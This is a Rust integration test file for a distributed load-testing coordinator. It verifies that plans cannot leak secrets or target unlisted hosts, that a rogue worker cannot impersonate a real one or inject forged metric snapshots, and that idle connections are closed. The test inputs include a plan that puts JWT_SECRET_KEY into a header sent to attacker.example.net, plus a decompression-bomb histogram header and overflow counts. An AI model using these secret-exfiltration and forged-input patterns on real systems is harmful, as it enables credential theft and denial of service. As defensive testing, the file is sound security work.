//! A fleet only its operators can steer: a submitted plan cannot read what the worker's
//! operator did not expose (the fleet's token never) nor aim where it did not allow; a worker's
//! token cannot submit runs when a submit token is set; nobody can speak for a worker without
//! its session key; a snapshot for a share the sender does not hold is refused and never merged,
//! and so is one whose failure attribution does not add up or exceeds its bounds.

#![allow(clippy::unwrap_used)]

use std::time::Duration;

use gauntlet_coordinator::{Coordinator, CoordinatorConfig};
use gauntlet_core::report::Verdict;
use gauntlet_proto::v1::control_service_client::ControlServiceClient;
use gauntlet_proto::v1::worker_service_client::WorkerServiceClient;
use gauntlet_proto::v1::{self, worker_message};
use gauntlet_worker::access::Access;
use tokio_util::sync::CancellationToken;

mod common;
use common::{arrivals, coordinator, run, sleepy, submit, wait_for_workers, worker_with};

/// A sleepy plan whose header reads `{env:NAME}`, aimed at `target`.
fn leaky(name: &str, target: &str) -> String {
    sleepy("vus = 1\niterations = 1", "")
        .replace("http://127.0.0.1:9", target)
        .replace(
            "[load]",
            &format!("headers = {{ \"X-Leak\" = \"{{env:{name}}}\" }}\n[load]"),
        )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plan_cannot_read_unexposed_secrets_or_aim_at_unlisted_hosts() {
    let (url, _stop) = coordinator().await;
    // Defaults: no variable exposed, loopback only.
    let _w = worker_with(&url, "default", Access::default());
    wait_for_workers(&url, 1).await;
    let r = run(&url, leaky("JWT_SECRET_KEY", "http://127.0.0.1:9"), 1).await;
    assert_eq!(r.verdict, Verdict::Error);
    assert!(
        r.verdict_reason
            .contains("does not expose environment variable `JWT_SECRET_KEY`"),
        "{}",
        r.verdict_reason
    );
    assert_eq!(r.totals.sessions, 0, "refused before any traffic");

    // The compose settings: JWT_SECRET_KEY exposed, the testbed allowed.
    let (url, _stop) = coordinator().await;
    let _w = worker_with(
        &url,
        "compose",
        Access::new(&["JWT_SECRET_KEY".into()], &[], &["testbed", "127.0.0.0/8"]).unwrap(),
    );
    wait_for_workers(&url, 1).await;
    let r = run(&url, leaky("GAUNTLET_TOKEN", "http://127.0.0.1:9"), 1).await;
    assert!(
        r.verdict_reason
            .contains("does not expose environment variable `GAUNTLET_TOKEN`"),
        "{}",
        r.verdict_reason
    );
    let r = run(
        &url,
        leaky("JWT_SECRET_KEY", "http://attacker.example.net:80"),
        1,
    )
    .await;
    assert_eq!(r.verdict, Verdict::Error);
    assert!(
        r.verdict_reason
            .contains("does not send traffic to `attacker.example.net`"),
        "{}",
        r.verdict_reason
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workers_token_cannot_submit_runs() {
    let stop = CancellationToken::new();
    let (addr, _) = Coordinator::new(CoordinatorConfig::default(), stop.clone())
        .with_token(Some("worker-secret".into()))
        .with_submit_token(Some("submit-secret".into()))
        .start("127.0.0.1:0".parse().unwrap())
        .await
        .unwrap();
    let url = format!("http://{addr}");
    let channel = gauntlet_proto::auth::endpoint(&url, None)
        .unwrap()
        .connect()
        .await
        .unwrap();
    let control = |token: &str| {
        ControlServiceClient::with_interceptor(
            channel.clone(),
            gauntlet_proto::auth::attach_token(Some(token.into())),
        )
    };
    let submit = v1::SubmitRunRequest {
        plan_toml: sleepy("vus = 1\niterations = 1", ""),
        plan_file: "p.toml".into(),
        ..v1::SubmitRunRequest::default()
    };
    let refused = control("worker-secret")
        .submit_run(submit.clone())
        .await
        .unwrap_err();
    assert_eq!(refused.code(), tonic::Code::Unauthenticated);
    let refused = control("worker-secret")
        .list_runs(v1::ListRunsRequest {})
        .await
        .unwrap_err();
    assert_eq!(refused.code(), tonic::Code::Unauthenticated);
    control("submit-secret")
        .list_runs(v1::ListRunsRequest {})
        .await
        .unwrap();
    // And the submit token does not make a worker.
    let mut workers = WorkerServiceClient::with_interceptor(
        channel.clone(),
        gauntlet_proto::auth::attach_token(Some("submit-secret".into())),
    );
    let refused = workers
        .register(v1::RegisterRequest {
            name: "x".into(),
            protocol: gauntlet_proto::PROTOCOL_VERSION,
            ..v1::RegisterRequest::default()
        })
        .await
        .unwrap_err();
    assert_eq!(refused.code(), tonic::Code::Unauthenticated);
    stop.cancel();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_snapshot_for_a_share_the_sender_does_not_hold_is_refused() {
    let (url, _stop) = coordinator().await;
    let _real = worker_with(&url, "real", Access::open());
    wait_for_workers(&url, 1).await;
    let url2 = url.clone();
    let report =
        tokio::spawn(async move { run(&url2, sleepy("vus = 2\nduration = \"2s\"", ""), 1).await });
    // The run is under way (the real worker holds its only share): a rogue registers and
    // reports for it, with absurd counts.
    let mut control = ControlServiceClient::connect(url.clone()).await.unwrap();
    let mut polls = 0;
    let run_id = loop {
        polls += 1;
        assert!(polls < 500, "the run never started");
        let runs = control
            .list_runs(v1::ListRunsRequest {})
            .await
            .unwrap()
            .into_inner()
            .runs;
        if let Some(r) = runs.iter().find(|r| r.phase() == v1::RunPhase::Running) {
            break r.run_id.clone();
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    // It knows the real worker's id (ids are in reports): claiming it gets a new identity,
    // and speaking for it without its session key is refused.
    let real = control
        .list_workers(v1::ListWorkersRequest {})
        .await
        .unwrap()
        .into_inner()
        .workers[0]
        .worker_id
        .clone();
    let mut client = WorkerServiceClient::connect(url.clone()).await.unwrap();
    let id = client
        .register(v1::RegisterRequest {
            name: "rogue".into(),
            capacity: 1,
            protocol: gauntlet_proto::PROTOCOL_VERSION,
            worker_id: real.clone(),
            ..v1::RegisterRequest::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_ne!(id.worker_id, real);
    let (tx_forged, rx_forged) = tokio::sync::mpsc::channel(1);
    tx_forged
        .send(v1::WorkerMessage {
            kind: Some(worker_message::Kind::Hello(v1::Hello {
                worker_id: real.clone(),
                session_key: id.session_key.clone(),
            })),
        })
        .await
        .unwrap();
    let refused = client
        .session(tokio_stream::wrappers::ReceiverStream::new(rx_forged))
        .await
        .unwrap_err();
    assert_eq!(refused.code(), tonic::Code::PermissionDenied);
    let (tx, rx) = tokio::sync::mpsc::channel(16);
    tx.send(v1::WorkerMessage {
        kind: Some(worker_message::Kind::Hello(v1::Hello {
            worker_id: id.worker_id,
            session_key: id.session_key,
        })),
    })
    .await
    .unwrap();
    let _inbound = client
        .session(tokio_stream::wrappers::ReceiverStream::new(rx))
        .await
        .unwrap()
        .into_inner();
    let mut forged = gauntlet_core::metrics::Snapshot::default();
    forged.counters.sessions_started = 1_000_000_000_000;
    forged.counters.sessions_passed = 1_000_000_000_000;
    for seq in [1, 2, 1 << 32] {
        let wire = gauntlet_proto::snapshot_to_proto(&forged, &run_id, seq, 500, 0);
        tx.send(v1::WorkerMessage {
            kind: Some(worker_message::Kind::Snapshot(wire)),
        })
        .await
        .unwrap();
    }
    let r = report.await.unwrap();
    assert_eq!(r.verdict, Verdict::Pass, "{}", r.verdict_reason);
    // 2 VUs x 2 s of 100 ms naps: about 40 sessions, never a forged trillion.
    assert!(r.totals.sessions < 100, "{:?}", r.totals);
    assert_eq!(r.workers.len(), 1);
}

/// Each kind of forged snapshot a registered worker can send, whether for a share it holds or
/// not, is refused with a status naming why, while a real run on the same coordinator stays
/// exact against the testbed's ground truth, and the coordinator's memory stays bounded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forged_snapshots_are_refused_with_a_status_while_a_real_run_stays_exact() {
    use gauntlet_core::metrics::{Snapshot, histogram};
    let secret =
        std::env::temp_dir().join(format!("gauntlet-forged-{}.secret", std::process::id()));
    std::fs::write(&secret, "forged").unwrap();
    let mut config = gauntlet_testbed::TestbedConfig::default();
    config.auth.secret = Some(gauntlet_testbed::config::Secret(b"forged".to_vec()));
    config.websocket.max_managers_per_user = 1000;
    // Short sessions: no arrival finds every VU busy, however loaded the machine.
    config.pipeline.delay = gauntlet_testbed::delay::Delay::ZERO;
    let tb = gauntlet_testbed::Testbed::start(config, "127.0.0.1:0".parse().unwrap())
        .await
        .unwrap();
    let stop = CancellationToken::new();
    let coordinator = Coordinator::new(
        CoordinatorConfig {
            heartbeat_timeout: Duration::from_secs(2),
            heartbeat_interval: Duration::from_millis(200),
            start_delay: Duration::from_millis(100),
            min_workers_timeout: Duration::from_secs(10),
            ..CoordinatorConfig::default()
        },
        stop.clone(),
    );
    let (addr, _) = coordinator
        .clone()
        .start("127.0.0.1:0".parse().unwrap())
        .await
        .unwrap();
    let url = format!("http://{addr}");
    let _real = worker_with(&url, "real", Access::open());
    wait_for_workers(&url, 1).await;

    // Run A, on the real worker alone: 300 agent-pipeline sessions over 3 s.
    let (a, mut control) = submit(&url, arrivals(&tb.http_url(), &secret, 100, "3s", 140), 1).await;
    // A worker joins and is given a share of run B (split with the real one).
    let (tx, mut inbound, me) = common::hand_worker(&url, "forger", "").await;
    let (b, _) = submit(&url, sleepy("vus = 2\nduration = \"2s\"", ""), 2).await;
    let mine = loop {
        if let Some(v1::coordinator_message::Kind::Assignment(x)) =
            inbound.message().await.unwrap().unwrap().kind
        {
            assert_eq!(x.run_id, b);
            break x;
        }
    };
    let send = |wire: v1::Snapshot| {
        let tx = tx.clone();
        async move {
            tx.send(v1::WorkerMessage {
                kind: Some(worker_message::Kind::Snapshot(wire)),
            })
            .await
            .unwrap();
        }
    };
    let own = |s: &Snapshot, n: u64, at_ms: u64| {
        gauntlet_proto::snapshot_to_proto(s, &b, mine.first_seq + n, at_ms, 0)
    };
    let mut counters_only = Snapshot::default();
    counters_only.counters.sessions_started = 1_000_000_000_000;
    counters_only.counters.sessions_passed = 1_000_000_000_000;
    let mut wrapping = counters_only.clone();
    wrapping.counters.sessions_started = u64::MAX;
    wrapping.counters.sessions_passed = u64::MAX;
    let mut unknown_metric = common::naps_passed(1, 100_000);
    unknown_metric
        .histograms
        .insert("x".repeat(1000), histogram());
    let mut bomb = own(&common::naps_passed(1, 100_000), 7, 500);
    // A 150-byte histogram header claiming a 4 GiB payload.
    let mut claim = vec![0x1c, 0x84, 0x93, 0x14, 0xff, 0xff, 0xff, 0xff];
    claim.extend([0u8; 142]);
    bomb.histograms[0].v2_deflate = claim;
    // Attribution that does not add up, is too large, names what the plan lacks, or met more
    // sessions than the share's one VU could run.
    let mut uncounted = common::naps_passed(2, 100_000);
    uncounted.attribution.target = Default::default();
    let mut crowd = own(&common::naps_passed(1, 100_000), 13, 500);
    crowd.attribution.as_mut().unwrap().subjects = (0..=10_000)
        .map(|i| v1::Valued {
            value: format!("user-{i}"),
            outcomes: Some(v1::Outcomes {
                passed: 1,
                failed: vec![],
            }),
        })
        .collect();
    let mut made_up = own(&common::naps_passed(1, 100_000), 14, 500);
    made_up.attribution.as_mut().unwrap().live[0]
        .outcomes
        .as_mut()
        .unwrap()
        .failed
        .push(v1::CategoryCount {
            category: "made_up".into(),
            count: 1,
        });
    let mut met = common::naps_passed(1, 100_000);
    let o = met.attribution.in_flight.values.remove(&0).unwrap();
    met.attribution.in_flight.values.insert(50, o);
    let forgeries: Vec<(&str, v1::Snapshot, &str)> = vec![
        (
            "run A, not the sender's",
            gauntlet_proto::snapshot_to_proto(&common::naps_passed(5, 1000), &a, 1, 500, 0),
            "not_your_share",
        ),
        (
            "a run that does not exist",
            gauntlet_proto::snapshot_to_proto(&Snapshot::default(), "run-0-0000", 1, 500, 0),
            "unknown_run",
        ),
        (
            "10^12 sessions, no samples",
            own(&counters_only, 1, 500),
            "inconsistent",
        ),
        ("u64::MAX sessions", own(&wrapping, 2, 500), "inconsistent"),
        (
            "a trillion consistent 1 us sessions",
            own(&common::naps_passed(1_000_000_000_000, 1), 3, 500),
            "implausible",
        ),
        (
            "a day-long session 1 s in",
            own(&common::naps_passed(1, 86_400_000_000), 4, 500),
            "implausible",
        ),
        (
            "at_ms = 10^12",
            own(&Snapshot::default(), 5, 1_000_000_000_000),
            "after_the_run",
        ),
        (
            "at_ms = 10^8",
            own(&Snapshot::default(), 6, 100_000_000),
            "after_the_run",
        ),
        ("a 4 GiB histogram header", bomb, "undecodable"),
        (
            "a name the plan lacks",
            own(&unknown_metric, 8, 500),
            "unknown_name",
        ),
        (
            "a sequence number far past the window",
            own(&Snapshot::default(), 1 << 30, 500),
            "out_of_window",
        ),
        (
            "two sessions no target table counts",
            own(&uncounted, 12, 500),
            "inconsistent",
        ),
        ("10,001 subjects in one snapshot", crowd, "undecodable"),
        (
            "an attribution category the plan lacks",
            made_up,
            "unknown_name",
        ),
        (
            "a session that met 50 in flight on a 1-VU share",
            own(&met, 15, 500),
            "implausible",
        ),
    ];
    for (what, wire, reason) in forgeries {
        send(wire).await;
        let refused = common::answer(&mut inbound).await.expect_err(what);
        assert_eq!(refused.reason, reason, "{what}: {}", refused.detail);
        assert!(
            !refused.detail.is_empty() && refused.detail.len() < 300,
            "{what}"
        );
    }
    // Its own, honest share ends (no sessions ran on it).
    tx.send(v1::WorkerMessage {
        kind: Some(worker_message::Kind::Done(v1::Done {
            run_id: b.clone(),
            last_seq: mine.first_seq,
            first_seq: mine.first_seq,
            ..v1::Done::default()
        })),
    })
    .await
    .unwrap();
    drop(me);

    let report_a = common::watch_report(&mut control, &a).await;
    let truth = tb.stats();
    let connections: u64 = truth.users.values().map(|u| u.connections).sum();
    assert_eq!(
        report_a.totals.sessions, 300,
        "{:?} {}",
        report_a.totals, report_a.verdict_reason
    );
    assert_eq!(connections, 300, "the testbed saw each session once");
    assert_eq!(report_a.totals.passed, 300, "{}", report_a.verdict_reason);
    assert_eq!(
        report_a.verdict,
        Verdict::Pass,
        "{}",
        report_a.verdict_reason
    );
    assert_eq!(report_a.workers.len(), 1);
    let report_b = common::watch_report(&mut control, &b).await;
    assert!(report_b.totals.sessions < 100, "{:?}", report_b.totals);

    let metrics = gauntlet_coordinator::http::metrics(&coordinator);
    for (reason, n) in [
        ("not_your_share", 1),
        ("unknown_run", 1),
        ("inconsistent", 3),
        ("implausible", 3),
        ("after_the_run", 2),
        ("undecodable", 2),
        ("unknown_name", 2),
        ("out_of_window", 1),
    ] {
        let line = format!("gauntlet_rejected_messages_total{{reason=\"{reason}\"}} {n}");
        assert!(metrics.contains(&line), "{line} in\n{metrics}");
    }
    // Nothing was allocated by what a peer claimed: the whole test process (testbed, workers
    // and coordinator) stayed far below the 1 GiB the Kubernetes manifests give a coordinator.
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let peak_kb: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap();
    assert!(peak_kb < 512 * 1024, "peak RSS {peak_kb} kB");
    stop.cancel();
    let _ = std::fs::remove_file(secret);
}

/// Connections nobody serves do not pile up: one that stays silent past the idle timeout is
/// closed, one beyond the port's maximum is closed at once, and a live worker, which is never
/// idle, keeps its stream through it all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_connections_are_closed_and_a_full_port_turns_newcomers_away() {
    use tokio::io::AsyncReadExt;
    let stop = CancellationToken::new();
    let coordinator = Coordinator::new(
        CoordinatorConfig {
            heartbeat_timeout: Duration::from_secs(2),
            heartbeat_interval: Duration::from_millis(200),
            connections: gauntlet_coordinator::listen::ConnectionLimits {
                max: 8,
                idle: Duration::from_millis(600),
            },
            ..CoordinatorConfig::default()
        },
        stop.clone(),
    );
    let (grpc, _) = coordinator
        .clone()
        .start("127.0.0.1:0".parse().unwrap())
        .await
        .unwrap();
    let http = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let http_addr = http.local_addr().unwrap();
    tokio::spawn(coordinator.clone().serve_http(http));
    let url = format!("http://{grpc}");
    let _w = worker_with(&url, "live", Access::open());
    wait_for_workers(&url, 1).await;

    // Opened and left silent, on both ports: closed by the server (EOF or reset) within a
    // bound, never held open.
    let mut idle = Vec::new();
    for addr in [grpc, http_addr, grpc, http_addr] {
        idle.push(tokio::net::TcpStream::connect(addr).await.unwrap());
    }
    for mut s in idle {
        let mut buf = [0u8; 256];
        let closed = tokio::time::timeout(Duration::from_secs(10), async {
            loop {
                match s.read(&mut buf).await {
                    Ok(0) | Err(_) => break,
                    Ok(_) => continue, // the HTTP/2 server's preface
                }
            }
        })
        .await;
        assert!(closed.is_ok(), "an idle connection stayed open");
    }

    // The gRPC port holds 8: the worker's, a run client's and 6 more; the next newcomer is
    // closed at once.
    let mut control = ControlServiceClient::connect(url.clone()).await.unwrap();
    let mut held = Vec::new();
    for _ in 0..6 {
        held.push(tokio::net::TcpStream::connect(grpc).await.unwrap());
    }
    let mut extra = tokio::net::TcpStream::connect(grpc).await.unwrap();
    let mut buf = [0u8; 64];
    let n = tokio::time::timeout(Duration::from_millis(500), extra.read(&mut buf))
        .await
        .expect("the connection beyond the maximum is closed at once, not after the idle timeout");
    assert!(matches!(n, Ok(0) | Err(_)), "{n:?}");
    assert!(
        coordinator
            .refused_connections
            .load(std::sync::atomic::Ordering::Relaxed)
            >= 1
    );
    drop(held);

    // The worker stayed connected throughout (its heartbeats keep its connection busy), and
    // so did the run client (the server's keepalive pings keep it from idling).
    let workers = control
        .list_workers(v1::ListWorkersRequest {})
        .await
        .unwrap()
        .into_inner()
        .workers;
    assert_eq!(workers.len(), 1);
    assert!(workers[0].last_seen_ms_ago < 1000, "{workers:?}");
    stop.cancel();
}
